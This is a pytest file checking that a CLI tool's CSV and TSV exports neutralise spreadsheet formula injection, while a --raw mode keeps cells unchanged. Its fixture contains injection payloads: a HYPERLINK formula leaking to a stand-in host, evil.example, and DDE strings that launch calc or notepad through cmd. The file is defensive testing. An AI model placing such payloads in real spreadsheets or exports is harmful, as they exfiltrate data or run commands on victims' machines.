"""Hole 6: nothing bound for a spreadsheet is run by it as a formula (OWASP: CSV injection).

Every csv and tsv amanat writes (status, members, feedback list, the export
pack) goes through one writer that puts a `'` before a cell a spreadsheet
would run (`=HYPERLINK(…)`, `@SUM(…)`, `+cmd|…`, `-2+3`); plain numbers stay
numbers, and `--raw` writes cells as they are for machine pipelines.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Result
from tests.write.test_write_commands import BASE

Run = Callable[..., Result]

HOSTILE = {
    "pledge": '=HYPERLINK("http://evil.example/?leak","Open")',
    "indicator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "member": "+cmd|' /C notepad'!A0",
    "position": "-2+3",
    "feedback": "=1+2",
}


@pytest.fixture
def roadmap(write_roadmap: Callable[..., Path]) -> Path:
    text = (
        BASE.replace("title: Построить 6 поликлиник", f"title: '{HOSTILE['pledge']}'")
        .replace("title: Введено поликлиник", f'title: "{HOSTILE["indicator"]}"')
        .replace("name: Калиев Арман Серикович", f'name: "{HOSTILE["member"]}"')
        .replace("bodies: [bureau]", f"bodies: [bureau]\n    position: '{HOSTILE['position']}'")
        .replace("text: Врачей не хватает", f"text: '{HOSTILE['feedback']}'")
        .replace("baseline: 0\n            target: 100", "baseline: -3\n            target: 100")
    )
    return write_roadmap(text, "almaty.yaml", raw=True)


def _cells(text: str, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def _neutralised(cells: list[str], *names: str) -> None:
    for name in names:
        assert "'" + HOSTILE[name] in cells, name
        assert HOSTILE[name] not in cells, name


COMMANDS = {
    "status": (["status", "--indicators"], ("indicator",)),
    "members": (["members"], ("member", "position")),
    "feedback": (["feedback", "list"], ("feedback",)),
}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_formulas_are_neutralised(
    run_cli: Run, roadmap: Path, command: str, fmt: str, delimiter: str
) -> None:
    args, fields = COMMANDS[command]
    result = run_cli(*args, "--format", fmt, "-r", str(roadmap))
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout, delimiter)
    _neutralised(cells, *fields)


def test_status_pledge_rows_and_plain_numbers(run_cli: Run, roadmap: Path) -> None:
    cells = _cells(run_cli("status", "--format", "csv", "-r", str(roadmap)).stdout, ",")
    _neutralised(cells, "pledge")
    indicator_cells = _cells(
        run_cli("status", "--indicators", "--format", "csv", "-r", str(roadmap)).stdout, ","
    )
    assert "-3" in indicator_cells  # a number, not a formula: kept as it is


@pytest.mark.parametrize("command", COMMANDS)
def test_raw_keeps_cells_as_they_are(run_cli: Run, roadmap: Path, command: str) -> None:
    args, fields = COMMANDS[command]
    result = run_cli(*args, "--format", "csv", "--raw", "-r", str(roadmap))
    assert result.exit_code == 0, result.stderr
    cells = _cells(result.stdout, ",")
    for name in fields:
        assert HOSTILE[name] in cells


def test_the_export_pack_is_neutralised_unless_raw(run_cli: Run, roadmap: Path) -> None:
    pack = _cells(run_cli("export", "--format", "csv", str(roadmap)).stdout, ",")
    _neutralised(pack, "pledge", "indicator")
    assert "-3" in pack
    raw = _cells(run_cli("export", "--format", "csv", "--raw", str(roadmap)).stdout, ",")
    assert HOSTILE["pledge"] in raw and HOSTILE["indicator"] in raw
